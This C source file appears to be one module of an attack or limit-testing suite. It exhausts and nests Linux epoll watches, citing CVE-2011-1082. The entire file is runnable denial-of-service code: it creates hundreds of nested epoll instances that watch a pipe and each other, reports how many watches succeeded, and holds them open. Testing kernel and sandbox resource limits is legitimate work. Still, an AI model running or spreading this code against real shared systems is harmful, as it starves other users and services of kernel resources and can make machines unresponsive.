/* Uses up epoll watches, and nests them (epoll(7), fs.epoll.max_user_watches; CVE-2011-1082). */
#include "common/attack.h"

static void attempt(void) {
    struct {
        uint32_t events;
        uint64_t data;
    } __attribute__((packed)) event = {1, 0};
    int pair[2], made = 0, deep = syscall(SYS_epoll_create1, 0);
    if (pipe(pair) < 0) {
        return;
    }
    for (int n = 0; n < 800; n++) {
        int fd = syscall(SYS_epoll_create1, 0);
        if (fd < 0) {
            break;
        }
        made += syscall(SYS_epoll_ctl, fd, 1, pair[0], &event) == 0;
        made += syscall(SYS_epoll_ctl, fd, 1, deep, &event) == 0;
        if (n % 200 == 0) {
            deep = fd;
        }
    }
    printf("%d watches: %s\n", made, strerror(errno));
    hold();
}
